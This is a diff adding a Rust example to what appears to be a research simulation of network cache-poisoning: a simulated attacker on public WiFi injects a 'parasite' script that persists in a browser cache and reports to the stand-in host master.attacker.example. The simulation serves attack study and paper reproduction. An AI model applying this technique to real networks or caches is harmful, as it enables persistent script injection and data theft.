@@ -1,0 +1,74 @@
+//! Quickstart: one infection, end to end.
+//!
+//! A victim on a public WiFi re-fetches a popular site's persistent script;
+//! the master races the response, the parasite lands in the cache, survives
+//! the move to a clean network, and phones home.
+//!
+//! Run with: `cargo run -p parasite --example quickstart`
+
+use mp_browser::browser::Browser;
+use mp_browser::profile::BrowserProfile;
+use mp_httpsim::body::ResourceKind;
+use mp_httpsim::transport::{Internet, StaticOrigin};
+use mp_httpsim::url::Url;
+use parasite::master::Master;
+use parasite::script::Parasite;
+
+fn the_internet() -> Internet {
+    let mut site = StaticOrigin::new("somesite.com");
+    site.put_text(
+        "/index.html",
+        ResourceKind::Html,
+        r#"<html><head><script src="/my.js"></script></head><body>news of the day</body></html>"#,
+        "no-cache",
+    );
+    site.put_text(
+        "/my.js",
+        ResourceKind::JavaScript,
+        "function genuine(){ /* the site's real code */ }",
+        "public, max-age=604800",
+    );
+    let mut net = Internet::new();
+    net.register_origin(site);
+    net
+}
+
+fn main() {
+    // The master prepares its campaign: target object + parasite template.
+    let mut master = Master::new("master.attacker.example");
+    let target = Url::parse("http://somesite.com/my.js").expect("static url");
+    master.add_target(target.clone());
+    let infector = master.infector();
+
+    // The victim joins the attacker's WiFi: every fetch crosses the master.
+    let hostile_path = master.injecting_exchange(the_internet());
+    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(hostile_path));
+
+    println!("== victim browses somesite.com on the hostile network ==");
+    let page = Url::parse("http://somesite.com/index.html").expect("static url");
+    let load = browser.visit(&page);
+    for record in &load.records {
+        println!("  fetched {} ({:?})", record.url, record.source);
+    }
+    let infected = load.page.scripts.iter().any(|s| infector.is_infected(&s.body));
+    println!("  parasite executing: {infected}");
+
+    // The victim goes home. The site is reachable through a clean path now,
+    // but the cached copy is the infected one.
+    browser.change_network(Box::new(the_internet()));
+    browser.advance_time(24 * 3600);
+    println!("\n== next day, on the home network ==");
+    let load = browser.visit(&page);
+    for script in &load.page.scripts {
+        if let Some(parasite) = Parasite::detect(&script.body) {
+            println!(
+                "  parasite still runs from cache: campaign={} modules={:?} (served from cache: {})",
+                parasite.campaign,
+                parasite.modules.iter().map(|m| m.tag()).collect::<Vec<_>>(),
+                script.from_cache
+            );
+        }
+    }
+    println!("\ninjection stats recorded by the master are available via the experiment harness;");
+    println!("run `cargo run -p mp-bench --bin paper-report` for the full paper reproduction.");
+}
